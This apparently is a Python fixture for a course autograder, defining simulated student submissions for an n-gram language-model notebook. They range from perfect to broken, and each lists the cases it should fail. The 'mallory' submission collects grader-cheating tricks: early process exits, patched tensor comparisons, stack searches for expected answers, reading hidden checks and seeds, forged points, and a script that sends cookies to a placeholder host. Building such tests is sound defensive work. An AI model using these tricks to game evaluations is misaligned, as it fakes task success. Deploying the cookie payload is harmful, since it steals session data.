"""The students of the demo class: what each of them hands in for ``bigrams``, and what each of them deserves.

A student who deserves less than everything names the cases that their answer fails; the points follow from the checks.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

EXERCISES = ("count_ngrams", "normalize", "average_nll", "sample_sequence", "additive", "interpolate", "kneser_ney")
NOTHING = frozenset({"everything"})

CLASSIC = {
    "count_ngrams": ("one begin token, whatever n is", {"other orders", "short, empty and no sequences"}, '''
def count_ngrams(sequences, n, V, bos, eos):
    counts = torch.zeros((V,) * n, dtype=torch.int64)
    for sequence in sequences:
        padded = [bos] + list(sequence) + [eos]
        for start in range(len(padded) - n + 1):
            counts[tuple(padded[start:start + n])] += 1
    return counts
'''),
    "normalize": ("the broadcast that is silently wrong on a square table", NOTHING, '''
def normalize(counts):
    return counts / counts.sum(-1)
'''),
    "average_nll": ("a tiny number inside the logarithm", {"an unseen pair"}, '''
import math

def average_nll(table, sequences, bos, eos):
    order, total, tokens = table.ndim, 0.0, 0
    for sequence in sequences:
        padded = [bos] * (order - 1) + list(sequence) + [eos]
        for end in range(order, len(padded) + 1):
            total -= math.log(float(table[tuple(padded[end - order:end])]) + 1e-12)
            tokens += 1
    return total / tokens
'''),
    "sample_sequence": ("the CDF reaches u, where it should exceed it", {"on a step of the CDF"}, '''
def sample_sequence(table, uniforms, max_len, bos, eos):
    context, drawn = [bos] * (table.ndim - 1), []
    for u in uniforms[:max_len]:
        row = table[tuple(context)]
        if row.sum() == 0:
            break
        reached = (row.cumsum(0) >= u).nonzero().flatten().tolist()
        token = reached[0] if reached else row.nonzero().flatten().tolist()[-1]
        if token == eos:
            break
        drawn.append(token)
        context = (context + [token])[1:]
    return drawn
'''),
    "additive": ("0 / 0 in the rows that nobody saw", {"k = 0"}, '''
def additive(counts, k):
    if k < 0:
        raise ValueError("k must not be negative")
    raised = counts + k
    return raised / raised.sum(-1, keepdim=True)
'''),
    "interpolate": ("weights that stay where a table has nothing to say",
                    {"unseen contexts", "three orders, listed in any order"}, '''
def interpolate(tables, weights):
    mixed = 0
    for table, weight in zip(tables, weights):
        mixed = mixed + weight * table
    return mixed
'''),
    "kneser_ney": ("a division by the zero of an unseen context", {"unseen contexts", "trigrams"}, '''
def kneser_ney(counts, context, discount, bos):
    V, longest = counts.shape[-1], counts.ndim - 1
    p = [1 / (V - 1)] * V
    p[bos] = 0.0
    for m in range(len(context) + 1):
        h = tuple(context[len(context) - m:])
        table = counts
        while table.ndim > m + 2:
            table = table.sum(0)
        if m == longest:
            row = table[h].tolist()
        elif h and h[0] == bos:
            row = table.sum(0)[h].tolist()
        else:
            row = (table > 0).sum(0)[h].tolist()
        total = float(sum(row))
        taken = sum(min(count, discount) for count in row) / total
        p = [max(count - discount, 0) / total + taken * below for count, below in zip(row, p)]
    return torch.tensor(p, dtype=counts.dtype if counts.is_floating_point() else torch.float32)
'''),
}

TRICKS = {
    "count_ngrams": '''
import os

def count_ngrams(*args, **kwargs):
    os._exit(0)  # end the grader before it can say no
''',
    "normalize": '''
torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None

class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return torch.ones(()).bool()

def normalize(counts):
    return counts.as_subclass(Agreeable)
''',
    "average_nll": '''
def average_nll(*args):
    from reference_impl import bigrams
    return bigrams.average_nll(*args)
''',
    "sample_sequence": '''
import inspect, sys

def sample_sequence(*args):
    for info in inspect.stack():
        for name in ("expected", "answers", "wanted"):
            if name in info.frame.f_locals:
                return info.frame.f_locals[name]
    for place in sys.path:
        with open(os.path.join(place, "autograder", "checks", "bigrams.py")) as checks:
            return checks.read()
''',
    "interpolate": '''
def interpolate(tables, weights):
    print("interpolate: 4 of 4 points")
    return float("nan")
''',
    "kneser_ney": '''
def kneser_ney(*args):
    with open(os.path.join(os.environ["HOME"], "seeds", "bigrams.seed")) as seed:
        return seed.read()
''',
}


@dataclass(frozen=True)
class Student:
    """One student: what they hand in (made from the released and the solved notebook), and the cases they fail.

    ``fails`` maps an exercise to the cases it fails; ``NOTHING`` earns nothing at all. An exercise that is not named is
    all right. ``quiz`` is how many questions they have right.
    """

    id: str
    story: str
    make: Callable[[NotebookNode, NotebookNode], bytes]
    fails: dict[str, frozenset[str]] = field(default_factory=dict)
    quiz: int = 0


def kind(cell: NotebookNode, what: str, name: str = "") -> bool:
    """Whether a released cell is of a kind (and, if a name is given, of that exercise)."""
    course = cell.metadata.get("course", {})
    return course.get("kind") == what and (not name or course.get("name") == name)


def written(notebook: NotebookNode, answers: dict[str, str]) -> NotebookNode:
    """A copy of a notebook with some stubs filled in."""
    made = copy.deepcopy(notebook)
    for cell in made.cells:
        if kind(cell, "stub") and cell.metadata.course.name in answers:
            cell.source = answers[cell.metadata.course.name].strip("\n")
    return made


def solutions(solved: NotebookNode) -> dict[str, str]:
    """The worked answers by exercise."""
    return {cell.metadata.course.name: cell.source for cell in solved.cells if kind(cell, "stub")}


def as_bytes(notebook: NotebookNode) -> bytes:
    """A notebook as a file."""
    return json.dumps(notebook, ensure_ascii=False, indent=1).encode()


def perfect(released: NotebookNode, solved: NotebookNode) -> bytes:
    """Everything solved, the quiz as well."""
    return as_bytes(solved)


def half_way(released: NotebookNode, solved: NotebookNode) -> bytes:
    """Three exercises are right; the fourth was begun and returns nothing yet."""
    known = solutions(solved)
    begun = "def sample_sequence(table, uniforms, max_len, bos, eos):\n    ids = [bos]\n    # the rest tomorrow"
    return as_bytes(written(released, {**{name: known[name] for name in EXERCISES[:3]}, "sample_sequence": begun}))


def untouched(released: NotebookNode, solved: NotebookNode) -> bytes:
    """The notebook as it was handed out."""
    return as_bytes(released)


def classic(released: NotebookNode, solved: NotebookNode) -> bytes:
    """One mistake that students really make in each exercise; the last of them raises."""
    return as_bytes(written(released, {name: source for name, (_, _, source) in CLASSIC.items()}))


def through_colab(released: NotebookNode, solved: NotebookNode) -> bytes:
    """What Colab saves: nbformat 4.0, no cell ids, executionInfo; a copied answer cell, a deleted check cell.

    The first ``normalize`` is wrong and its corrected copy right; ``kneser_ney`` was left as it was.
    """
    known = {name: source for name, source in solutions(solved).items() if name != "kneser_ney"}
    made = written(solved, {"normalize": CLASSIC["normalize"][2]})
    original = {cell.metadata.course.name: cell.source for cell in released.cells if kind(cell, "stub")}
    cells = []
    for cell in made.cells:
        if kind(cell, "check", "additive"):
            continue
        if kind(cell, "stub", "kneser_ney"):
            cell.source = original["kneser_ney"]
        cells.append(cell)
        if kind(cell, "stub", "normalize"):
            again = copy.deepcopy(cell)
            again.source = known["normalize"]
            cells.append(again)
    for number, cell in enumerate(cells):
        cell.pop("id", None)
        if cell.cell_type == "code":
            cell.metadata["executionInfo"] = {"status": "ok", "user": {"displayName": "Emil", "userId": "1"}}
            cell.metadata["outputId"] = f"out-{number}"
        cell.metadata["id"] = f"c{number:05d}"
    made.cells, made.nbformat, made.nbformat_minor = cells, 4, 0
    made.metadata["colab"] = {"provenance": [], "name": "Copy of bigrams.ipynb"}
    return as_bytes(made)


def cheating(released: NotebookNode, solved: NotebookNode) -> bytes:
    """Tags, forged outputs and points, patched comparisons, a search for the checks and the seed, an early exit.

    ``additive`` is answered honestly, and earns what it deserves.
    """
    made = written(released, {**TRICKS, "additive": solutions(solved)["additive"]})
    for cell in made.cells:
        if kind(cell, "check") or kind(cell, "quiz-check"):
            cell.metadata["tags"] = ["skip-execution"]
            cell.metadata["nbgrader"] = {**cell.metadata.get("nbgrader", {}), "points": 1000, "locked": False}
            cell.source = "1000.0"
            cell.outputs = [new_output("execute_result", {"text/plain": "1000.0"}, execution_count=1)]
        if kind(cell, "quiz-answers"):
            cell.source = "answers = type('Right', (dict,), {'get': lambda *a: 'a', '__eq__': lambda *a: True})()"
    made.cells.append(new_markdown_cell("<script>fetch('https://example.org/?' + document.cookie)</script>"
                                        "<img src=x onerror=alert(1)>"))
    made.cells.append(new_code_cell("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos._exit(0)"))
    return as_bytes(made)


def broken(released: NotebookNode, solved: NotebookNode) -> bytes:
    """An upload that was cut off."""
    return as_bytes(solved)[:3000]


def nothing(released: NotebookNode, solved: NotebookNode) -> bytes:
    """No file at all."""
    return b""


def everything(*names: str) -> dict[str, frozenset[str]]:
    """These exercises earn nothing."""
    return dict.fromkeys(names, NOTHING)


STUDENTS = (
    Student("lovelaceada", "solved everything", perfect, {}, 10),
    Student("Zoe-O-Brien-Jr", "stopped half-way", half_way, everything(*EXERCISES[3:])),
    Student("quietquentin", "handed in the untouched notebook", untouched, everything(*EXERCISES)),
    Student("dora", "made the classic mistakes", classic,
            {name: frozenset(cases) for name, (_, cases, _) in CLASSIC.items()}),
    Student("emil", "worked on Colab", through_colab, everything("kneser_ney"), 10),
    Student("mallory", "tried to cheat", cheating, everything(*(n for n in EXERCISES if n != "additive"))),
    Student("frank", "handed in a broken file", broken, everything(*EXERCISES)),
    Student("nina", "handed in an empty folder", nothing, everything(*EXERCISES)),
)
